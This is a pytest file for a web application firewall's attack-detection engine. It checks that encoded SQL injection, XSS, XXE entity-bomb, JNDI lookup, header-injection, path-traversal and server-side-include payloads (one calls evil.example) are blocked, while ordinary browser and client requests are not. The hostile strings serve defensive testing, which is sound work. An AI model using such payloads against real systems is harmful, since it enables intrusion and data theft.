"""The `builtin` engine over whole requests: every part, every encoding, scores and context."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape as xml_escape

import pytest
from hypothesis import given, settings, strategies as st

from wardgate.detect.attacks.builtin import BuiltinEngine
from wardgate.detect.attacks.engines import build_engine
from wardgate.detect.attacks.model import HttpSample

ENGINE = BuiltinEngine()
JSON = (("Host", "api.example"), ("Content-Type", "application/json"))


def _get(
    query: str = "", path: str = "/items", headers: tuple[tuple[str, str], ...] = ()
) -> HttpSample:
    return HttpSample("GET", path, query, (("Host", "api.example"), *headers))


def _post(body: object, headers: tuple[tuple[str, str], ...] = JSON) -> HttpSample:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return HttpSample("POST", "/items", "", headers, raw)


def _categories(sample: HttpSample, **kwargs: frozenset[str]) -> set[str]:
    return {f.kind.removeprefix("attack.") for f in ENGINE.inspect(sample, **kwargs).findings}


PAYLOAD = "1' UNION SELECT password FROM users--"


@pytest.mark.parametrize(
    "sample",
    [
        _get("id=" + quote(PAYLOAD)),
        _get("id=" + quote(quote(PAYLOAD))),  # double encoded
        _get("id=" + base64.b64encode(PAYLOAD.encode()).decode().rstrip("=")),  # base64, flat
        _get("id=" + "".join(f"%u{ord(c):04x}" for c in PAYLOAD)),  # IIS %u
        _get(path="/items/" + quote(PAYLOAD, safe="")),
        _get(headers=(("X-Client", PAYLOAD),)),
        _get(headers=(("Cookie", "theme=dark; sid=" + quote(PAYLOAD)),)),
        _post({"filter": {"name": [PAYLOAD]}}),
        _post(
            ("q=" + quote(PAYLOAD)).encode(),
            (("Content-Type", "application/x-www-form-urlencoded"),),
        ),
        _post(
            b'--XX\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
            + PAYLOAD.encode()
            + b"\r\n--XX--\r\n",
            (("Content-Type", "multipart/form-data; boundary=XX"),),
        ),
        _post(
            f"<q><name>{PAYLOAD.replace('<', '&lt;')}</name></q>".encode(),
            (("Content-Type", "application/xml"),),
        ),
        _post(PAYLOAD.encode(), (("Content-Type", "text/plain"),)),
    ],
)
def test_sql_injection_is_found_in_every_part_and_encoding(sample: HttpSample) -> None:
    report = ENGINE.inspect(sample)
    assert report.blocked, report
    assert "attack.sqli" in {f.kind for f in report.findings}
    finding = next(f for f in report.findings if f.kind == "attack.sqli")
    assert finding.location is not None and finding.rule and finding.score == 5
    assert finding.evidence is not None  # a digest of the match, never the match


def test_padded_payloads_are_still_seen() -> None:
    body = {"padding": "a" * 100_000, "q": "<script>alert(1)</script>"}
    assert ENGINE.inspect(_post(body)).blocked


def test_xml_doctype_is_a_finding_and_entities_are_not_expanded() -> None:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><r>&lol2;</r>'
    )
    report = ENGINE.inspect(_post(bomb, (("Content-Type", "application/xml"),)))
    assert report.blocked and "attack.xxe" in {f.kind for f in report.findings}


def test_scores_add_up_per_rule_and_the_threshold_decides() -> None:
    lenient = BuiltinEngine(threshold=1000)
    report = lenient.inspect(_get("a=" + quote(PAYLOAD) + "&b=" + quote(PAYLOAD)))
    assert not report.blocked and report.score >= 10
    rules = [f.rule for f in report.findings]
    assert len(report.findings) >= len(set(rules))  # the same rule may be found in two parts...
    by_rule = {f.rule: int(f.score) for f in report.findings}
    assert report.score == sum(by_rule.values())  # ...but counts once


def test_chat_text_is_language_unless_the_route_says_otherwise() -> None:
    question = "How does SELECT name FROM users UNION SELECT name FROM admins work? ' OR 1=1 --"
    sample = _post({"model": "m", "messages": [{"role": "user", "content": question}]})
    natural = frozenset({"json:messages[0].content"})
    assert not ENGINE.inspect(sample, text_slots=natural).blocked
    assert ENGINE.inspect(sample).blocked  # the same text in a parameter is an attack
    jndi = _post({"messages": [{"role": "user", "content": "hi ${jndi:ldap://x.example/a}"}]})
    assert ENGINE.inspect(jndi, text_slots=natural).blocked  # loggers expand it in prose too


@pytest.mark.parametrize(
    "sample",
    [
        _get("q=caf%C3%A9+con+leche&page=2&sort=-created_at"),
        _get("email=ana%40example.com&next=%2Faccount%2Forders"),
        _get(
            headers=(
                ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/131.0"),
                ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
                ("Accept-Language", "es-ES,es;q=0.9,en;q=0.8"),
                ("Cookie", "_ga=GA1.2.3.4; session=eyJhbGciOiJIUzI1NiJ9.e30.abc"),
                ("Authorization", "Bearer sk-proj-abcdefghijklmnop"),
            )
        ),
        _post({"name": "O'Brien & Sons", "note": "Union Square, select seats", "qty": 3}),
        _post({"model": "gpt-4o", "messages": [{"role": "user", "content": "Write a haiku"}]}),
        _post({"url": "https://example.com/callback?x=1", "tags": ["a", "b"]}),
    ],
)
def test_ordinary_requests_score_nothing_that_blocks(sample: HttpSample) -> None:
    report = ENGINE.inspect(sample)
    assert not report.blocked, [(f.rule, f.location) for f in report.findings]


def test_malformed_declared_json_is_reported_and_still_inspected() -> None:
    report = ENGINE.inspect(_post(b'{"q": "<script>alert(1)</script>", '))
    assert report.malformed
    assert "attack.xss" in {f.kind for f in report.findings}


def test_engines_are_built_by_name() -> None:
    assert build_engine("builtin", paranoia=2).name == "builtin"
    with pytest.raises(ValueError, match="unknown engine"):
        build_engine("waf")
    with pytest.raises(ValueError, match="paranoia"):
        BuiltinEngine(paranoia=5)


@settings(max_examples=60, deadline=None)
@given(
    method=st.sampled_from(["GET", "POST", "PUT", "X"]),
    path=st.text(max_size=40),
    query=st.text(max_size=60),
    content_type=st.sampled_from(
        ["application/json", "application/xml", "multipart/form-data; boundary=b", "text/plain", ""]
    ),
    body=st.binary(max_size=300),
)
def test_hostile_input_never_raises(
    method: str, path: str, query: str, content_type: str, body: bytes
) -> None:
    headers = (("Content-Type", content_type),) if content_type else ()
    report = ENGINE.inspect(HttpSample(method, "/" + path, query, headers, body))
    assert report.score >= 0


BENIGN_VALUES = [
    line
    for line in (Path(__file__).parent / "data" / "benign_values.txt").read_text().splitlines()
    if line and not line.startswith("# ")
]


@pytest.mark.parametrize("value", BENIGN_VALUES)
def test_attack_looking_prose_in_a_parameter_is_not_blocked(value: str) -> None:
    for sample in (
        _get("q=" + quote(value)),
        _get("q=" + quote_plus(value)),
        _post({"comment": value}),
    ):
        report = ENGINE.inspect(sample)
        assert not report.blocked, [(f.rule, f.location) for f in report.findings]


def test_the_gate_skips_only_values_that_would_find_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    values = [*BENIGN_VALUES, PAYLOAD, "x\r\nBcc: a@b.c", "Li4vLi4vZXRjL3Bhc3N3ZA", "%3Cscript%3E"]
    values += ["plain words", "assistant", "user", "id", "data", "42", "José", "a" * 40]
    samples = [
        _post({f"f{i}": value for i, value in enumerate(values)}),
        _post({"items": [{"v": value, "n": i} for i, value in enumerate(values)]}),
        _get("&".join(f"k{i}={quote(v)}" for i, v in enumerate(values))),
    ]
    gated = [sorted((f.rule, str(f.location)) for f in ENGINE.inspect(s).findings) for s in samples]
    monkeypatch.setattr(ENGINE._gate, "candidates", lambda _values: None)
    full = [sorted((f.rule, str(f.location)) for f in ENGINE.inspect(s).findings) for s in samples]
    assert gated == full


_FRAGMENTS = st.sampled_from(
    [
        "+",
        "\t",
        "\x01",
        "file:",
        "./",
        "%09",
        "http:",
        "sleep",
        ",",
        "/",
        "'",
        '"',
        " or ",
        "1=1",
        "--",
        "<",
        "svg",
        " onload=",
        "alert(1)",
        "../",
        "etc/passwd",
        ";",
        "id",
        "|",
        "\n",
        "Bcc:",
        "%27",
        "%0a",
        "&lt;",
        "${",
        "jndi:",
        "http://",
        "127.0.0.1",
        "//",
        "$ne",
        "__proto__",
        "word",
        " ",
        "Zm9v",
        "=",
        "select",
        "union",
        "from",
        "x",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(_FRAGMENTS, max_size=8).map("".join), min_size=1, max_size=12))
def test_the_gate_agrees_with_a_full_scan_on_fragment_soup(values: list[str]) -> None:
    sample = _post({f"f{i}": value for i, value in enumerate(values)})
    gated = sorted((f.rule, str(f.location)) for f in ENGINE.inspect(sample).findings)
    full_engine = BuiltinEngine()
    full_engine._gate.candidates = lambda _values: None  # type: ignore[method-assign,assignment]
    full = sorted((f.rule, str(f.location)) for f in full_engine.inspect(sample).findings)
    assert gated == full


def _lines(name: str) -> list[str]:
    text = (Path(__file__).parent / "data" / name).read_text(encoding="utf-8")
    return [line for line in text.splitlines() if line.strip()]


_MULTIPART = (("Content-Type", "multipart/form-data; boundary=XX"),)
_FORM = (("Content-Type", "application/x-www-form-urlencoded"),)


def _multipart(value: str) -> HttpSample:
    body = b'--XX\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
    return _post(body + value.encode() + b"\r\n--XX--\r\n", _MULTIPART)


# Where a client puts a value, transport-encoded as that place requires.
PLACEMENTS: dict[str, Callable[[str], HttpSample]] = {
    "query": lambda value: _get("q=" + quote(value, safe="")),
    "path": lambda value: _get(path="/items/" + quote(value, safe="")),
    "header": lambda value: _get(headers=(("X-Data", value),)),
    "json": lambda value: _post({"q": value}),
    "form": lambda value: _post(("q=" + quote_plus(value)).encode(), _FORM),
    "multipart": _multipart,
}
# What the client did to the value first: nothing, URL-encoding, or base64 without padding.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda value: value,
    "url": lambda value: quote_plus(value, safe=""),
    "base64": lambda value: base64.b64encode(value.encode()).decode().rstrip("="),
}
CORPORA = [
    ("attacks_cmdi.txt", "cmdi"),
    ("attacks_ldapi.txt", "ldapi"),
    ("attacks_xss.txt", "xss"),
    ("attacks_xxe.txt", "xxe"),
    ("attacks_code.txt", None),
    ("attacks_ssrf.txt", "ssrf"),
]


@pytest.mark.parametrize(("name", "category"), CORPORA)
@pytest.mark.parametrize("placement", PLACEMENTS)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_our_own_payloads_are_blocked_in_every_placement_and_encoding(
    name: str, category: str | None, placement: str, encoding: str
) -> None:
    """Payloads written for these tests (not from the evaluation data): all must block."""
    missed = []
    for payload in _lines(name):
        if encoding == "base64" and not payload.isascii():
            continue  # short base64 that decodes to non-ASCII is not read as text, by design
        report = ENGINE.inspect(PLACEMENTS[placement](ENCODINGS[encoding](payload)))
        kinds = {f.kind for f in report.findings}
        if not report.blocked or (category and f"attack.{category}" not in kinds):
            missed.append((payload, sorted(kinds)))
    assert not missed


_XML = (("Content-Type", "text/xml"),)


@pytest.mark.parametrize("payload", _lines("attacks_xxe.txt"))
def test_our_xxe_payloads_are_blocked_as_an_xml_body(payload: str) -> None:
    body = payload if payload.lstrip().startswith("<") else f"<r>{xml_escape(payload)}</r>"
    report = ENGINE.inspect(_post(body.encode(), _XML))
    assert report.blocked, [(f.rule, f.location) for f in report.findings]


@pytest.mark.parametrize(
    "body",
    [
        '<!--#exec cmd="ls"--><root/>',  # comments are markup, not values
        '<order><!--#include virtual="/etc/passwd" --><id>7</id></order>',
        '<r><esi:include src="http://evil.example/x"/></r>',
    ],
)
def test_server_side_includes_in_xml_markup_are_blocked(body: str) -> None:
    report = ENGINE.inspect(_post(body.encode(), _XML))
    assert report.blocked, [(f.rule, f.location) for f in report.findings]


@pytest.mark.parametrize(
    "body",
    [
        "<config><!-- #region limits --><max>5</max><!-- TODO: raise --></config>",
        "<Project><!--#if (UseHttps)--><A/><!--#endif--></Project>",  # dotnet templates
        "<project><!-- # Set the Java version used by all modules --><v>17</v></project>",
        "<settings><!-- # pool size = 10 by default --><pool>10</pool></settings>",
    ],
)
def test_ordinary_xml_comments_are_not_includes(body: str) -> None:
    report = ENGINE.inspect(_post(body.encode(), _XML))
    assert not report.blocked, [(f.rule, f.location) for f in report.findings]


def test_a_soap_request_with_a_declaration_is_not_an_attack() -> None:
    body = (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
        "<soap:Body><GetOrder><id>42</id></GetOrder></soap:Body></soap:Envelope>"
    )
    report = ENGINE.inspect(_post(body.encode(), _XML))
    assert not report.blocked, [(f.rule, f.location) for f in report.findings]


@pytest.mark.parametrize("paranoia", [1, 2, 3, 4])
def test_a_browser_request_passes_at_every_paranoia_level(paranoia: int) -> None:
    headers = (
        ("Host", "shop.example"),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/133.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Cookie", "session=9f8e7d6c5b4a; theme=dark"),
        ("Cache-Control", "no-cache"),
    )
    report = BuiltinEngine(paranoia=paranoia).inspect(_get("page=2&q=shoes", headers=headers))
    assert not report.blocked, [(f.rule, f.location) for f in report.findings]


@pytest.mark.parametrize("agent", _lines("attacks_scanner.txt"))
def test_our_scanner_user_agents_are_blocked(agent: str) -> None:
    report = ENGINE.inspect(_get(headers=(("User-Agent", agent),)))
    assert report.blocked and "attack.scanner" in {f.kind for f in report.findings}


@pytest.mark.parametrize(
    "agent",
    [
        "curl/8.4.0",
        "python-requests/2.31.0",
        "PostmanRuntime/7.36.0",
        "okhttp/4.12.0",
        "Go-http-client/2.0",
        "Wget/1.21.4",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "axios/1.6.2",
        "insomnia/2023.5.8",
        "OpenAI/Python 1.3.5",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
        "Mozilla/5.0 (compatible; Uptime-Kuma/1.23.0)",
        "kube-probe/1.28",
        "ELB-HealthChecker/2.0",
        "GoogleHC/1.0",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "facebookexternalhit/1.1",
        "Scrapy/2.11.0 (+https://scrapy.org)",
        "Mozilla/5.0 (compatible; Wappalyzer)",
        "Hello",
    ],
)
def test_ordinary_clients_and_crawlers_are_not_scanners(agent: str) -> None:
    report = ENGINE.inspect(_get(headers=(("User-Agent", agent),)))
    assert not report.findings, [(f.rule, f.location) for f in report.findings]


@pytest.mark.parametrize(
    ("path", "paranoia", "blocked"),
    [
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 1, True),  # CVE-2017-9841
        ("/boaform/admin/formLogin", 1, True),  # router botnets
        ("/wp-admin/", 1, False),  # an honest path on a WordPress upstream
        ("/wp-admin/", 2, False),  # a warning at paranoia 2: adds up with other rules
        ("/actuator/health", 2, False),  # load balancers poll it
    ],
)
def test_probe_paths(path: str, paranoia: int, blocked: bool) -> None:
    report = BuiltinEngine(paranoia=paranoia).inspect(_get(path=path))
    assert report.blocked is blocked, [(f.rule, f.location) for f in report.findings]
